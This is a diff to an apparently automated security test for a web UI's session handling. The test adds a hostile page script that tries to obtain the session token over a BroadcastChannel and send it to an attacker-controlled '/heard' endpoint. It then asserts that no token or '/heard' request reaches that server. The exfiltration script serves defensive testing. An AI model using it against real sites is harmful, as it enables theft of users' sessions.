@@ -39,7 +39,13 @@ describe.skipIf(!!skip)('item 5: the UI credential stays on its origin', () => {
     evil.page(
       '/',
       `<!doctype html><title>cat pictures</title><img src="/pixel.gif">
-       <script>fetch('/collect', { credentials: 'include' }).then(() => { document.title = 'done'; });</script>`,
+       <script>
+         // The tabs of the UI share their session over a BroadcastChannel: ask it from here too.
+         const ch = new BroadcastChannel('agent-rooms.session');
+         ch.onmessage = (e) => fetch('/heard?' + encodeURIComponent(JSON.stringify(e.data)));
+         ch.postMessage({ type: 'ask' });
+         fetch('/collect', { credentials: 'include' }).then(() => setTimeout(() => { document.title = 'done'; }, 800));
+       </script>`,
     );
     const attack = await context.newPage();
     await attack.goto(evil.origin + '/');
@@ -58,6 +64,11 @@ describe.skipIf(!!skip)('item 5: the UI credential stays on its origin', () => {
     const token = await sessionOf(page);
     expect(token).toMatch(/^ars_/);
     expect(JSON.stringify(evil.requests)).not.toContain(token!);
+    expect(evil.requests.some((r) => r.path.startsWith('/heard'))).toBe(false);
+    // A tab of the UI's own origin (a room opened in a new tab) is given the session.
+    const second = await context.newPage();
+    await second.goto(s.baseUrl + '/#/agents');
+    await second.getByTestId('signed-in-as').waitFor();
     await context.close();
   });
 
